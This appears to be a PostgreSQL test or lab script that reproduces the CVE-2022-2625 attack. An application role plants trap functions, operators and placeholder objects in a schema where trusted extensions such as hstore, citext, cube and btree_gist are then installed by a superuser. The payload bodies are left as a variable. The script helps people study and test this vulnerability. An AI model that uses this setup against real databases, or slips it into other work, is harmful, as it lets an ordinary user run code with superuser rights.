-- way: prepare a schema with objects that the script of a trusted extension, run as superuser, replaces or calls
-- source: CVE-2022-2625
-- control: the schema of the extension is in a search_path of the superuser's own job, and the application may create there
-- section: setup
CREATE SCHEMA ops;
CREATE FUNCTION ops.job(name varchar) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
  AS $$ BEGIN RETURN lower(name); END $$;
-- section: application
CREATE FUNCTION shop.lower(varchar) RETURNS text LANGUAGE plpgsql AS :'note';
CREATE FUNCTION shop.hstore_version_diag(int) RETURNS int LANGUAGE plpgsql AS :'note';
CREATE FUNCTION shop.equal(int, int) RETURNS boolean LANGUAGE plpgsql AS :'note';
CREATE OPERATOR shop.= (FUNCTION = shop.equal, LEFTARG = int, RIGHTARG = int);
CREATE FUNCTION shop.textlike(text, text) RETURNS boolean LANGUAGE plpgsql AS :'note';
CREATE OPERATOR shop.~~ (FUNCTION = shop.textlike, LEFTARG = text, RIGHTARG = text);
CREATE FUNCTION shop.citext(text) RETURNS text LANGUAGE plpgsql AS :'note';
CREATE FUNCTION shop.regexp_match(text, text) RETURNS text[] LANGUAGE plpgsql AS :'note';
CREATE FUNCTION shop.cube(float8) RETURNS text LANGUAGE plpgsql AS :'note';
CREATE VIEW shop.earth AS SELECT 1;
CREATE TYPE shop.citext;
CREATE EXTENSION hstore SCHEMA shop;
CREATE EXTENSION citext SCHEMA shop;
DROP TYPE shop.citext;
DROP VIEW shop.earth;
CREATE EXTENSION citext SCHEMA shop;
CREATE EXTENSION cube SCHEMA shop VERSION '1.2';
ALTER EXTENSION cube UPDATE;
CREATE EXTENSION earthdistance SCHEMA shop CASCADE;
CREATE EXTENSION ltree SCHEMA shop;
CREATE EXTENSION btree_gist SCHEMA shop VERSION '1.2';
ALTER EXTENSION btree_gist UPDATE;
CREATE EXTENSION unaccent SCHEMA shop;
CREATE EXTENSION tablefunc SCHEMA pg_catalog;
-- section: others
CREATE EXTENSION IF NOT EXISTS intarray SCHEMA ext;
SELECT ops.job('X');
-- section: control
ALTER FUNCTION ops.job(varchar) SET search_path = shop, pg_catalog;
